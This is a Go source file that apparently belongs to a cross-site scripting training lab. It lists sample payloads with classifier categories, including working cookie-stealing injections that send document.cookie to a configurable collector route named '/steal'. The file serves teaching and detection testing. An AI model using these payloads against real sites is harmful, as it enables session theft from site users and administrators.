// Package payloads holds the lab's sample payloads and a small sandbox
// that dry-runs their scripts against a fake browser.
package payloads

import (
	"strings"
)

// DefaultCollector is the cookie collector route served by the lab.
const DefaultCollector = "/steal"

// Scenario names the lab page a payload is meant for
type Scenario string

const (
	ScenarioReflected Scenario = "reflected"
	ScenarioStored    Scenario = "stored"
	ScenarioBlind     Scenario = "blind"
	ScenarioBenign    Scenario = "benign"
)

// Payload is one sample input
type Payload struct {
	Name     string   `json:"name"`
	Scenario Scenario `json:"scenario"`
	// Target is the page or form field the payload goes into.
	Target string `json:"target"`
	Value  string `json:"value"`
	// Category is the main category the classifier assigns, or "benign".
	Category    string `json:"category"`
	Description string `json:"description"`
}

// Library returns the sample payloads with cookie-stealing variants aimed
// at collectorURL. An empty collector uses DefaultCollector.
func Library(collectorURL string) []Payload {
	c := cleanCollector(collectorURL) + "?c="

	return []Payload{
		{
			Name: "script-alert", Scenario: ScenarioReflected, Target: "/search?q=",
			Value:       "<script>alert(document.domain)</script>",
			Category:    "script_tag",
			Description: "Classic script injection reflected straight into the results page.",
		},
		{
			Name: "img-onerror", Scenario: ScenarioReflected, Target: "/search?q=",
			Value:       "<img src=x onerror=alert(1)>",
			Category:    "image_tag",
			Description: "Broken image whose error handler runs script.",
		},
		{
			Name: "svg-onload", Scenario: ScenarioReflected, Target: "/search?q=",
			Value:       "<svg onload=alert(1)>",
			Category:    "active_tag",
			Description: "SVG element with an onload handler.",
		},
		{
			Name: "attribute-breakout", Scenario: ScenarioReflected, Target: "/search?q=",
			Value:       `"><script>alert(1)</script>`,
			Category:    "script_tag",
			Description: "Closes a quoted attribute before injecting a script tag.",
		},
		{
			Name: "js-string-breakout", Scenario: ScenarioReflected, Target: "/search?q=",
			Value:       "';alert(1);//",
			Category:    "neutral_polyglot",
			Description: "Escapes a single-quoted JavaScript string.",
		},
		{
			Name: "fetch-cookie", Scenario: ScenarioStored, Target: "/comments",
			Value:       "<script>fetch('" + c + "'+encodeURIComponent(document.cookie))</script>",
			Category:    "script_tag",
			Description: "Stored comment that sends every reader's cookies to the collector.",
		},
		{
			Name: "image-beacon", Scenario: ScenarioStored, Target: "/comments",
			Value:       `<img src=x onerror="new Image().src='` + c + `'+document.cookie">`,
			Category:    "image_tag",
			Description: "Exfiltrates cookies through an image request, no fetch needed.",
		},
		{
			Name: "svg-fetch", Scenario: ScenarioBlind, Target: "/contact",
			Value:       `<svg onload="fetch('` + c + `'+document.cookie)">`,
			Category:    "active_tag",
			Description: "Fires when the admin opens the messages panel.",
		},
		{
			Name: "location-redirect", Scenario: ScenarioBlind, Target: "/contact",
			Value:       "<script>location='" + c + "'+document.cookie</script>",
			Category:    "script_tag",
			Description: "Navigates the admin's browser to the collector.",
		},
		{
			Name: "javascript-link", Scenario: ScenarioBlind, Target: "/contact",
			Value:       `<a href="javascript:fetch('` + c + `'+document.cookie)">open ticket</a>`,
			Category:    "scheme",
			Description: "Needs a click: the link runs script through the javascript: scheme.",
		},
		{
			Name: "body-onload", Scenario: ScenarioBlind, Target: "/contact",
			Value:       `<body onload="fetch('` + c + `'+document.cookie)">`,
			Category:    "html_like",
			Description: "Main category is the low-risk body tag even though an event handler follows.",
		},
		{
			Name: "plain-text", Scenario: ScenarioBenign, Target: "/comments",
			Value:       "Thanks for the great article!",
			Category:    "benign",
			Description: "Ordinary input, never flagged.",
		},
		{
			Name: "comparison", Scenario: ScenarioBenign, Target: "/search?q=",
			Value:       "Tom & Jerry say 2 > 1",
			Category:    "benign",
			Description: "Special characters that escaping changes but nothing flags.",
		},
	}
}

// ByScenario filters payloads by scenario
func ByScenario(payloads []Payload, scenario Scenario) []Payload {
	var out []Payload
	for _, p := range payloads {
		if p.Scenario == scenario {
			out = append(out, p)
		}
	}
	return out
}

// cleanCollector drops characters that would break out of the quoted
// strings the payloads embed the collector in.
func cleanCollector(collectorURL string) string {
	cleaned := strings.Map(func(r rune) rune {
		switch r {
		case '\'', '"', '<', '>', '`', '\\':
			return -1
		}
		if r <= ' ' {
			return -1
		}
		return r
	}, collectorURL)
	if cleaned == "" {
		return DefaultCollector
	}
	return cleaned
}
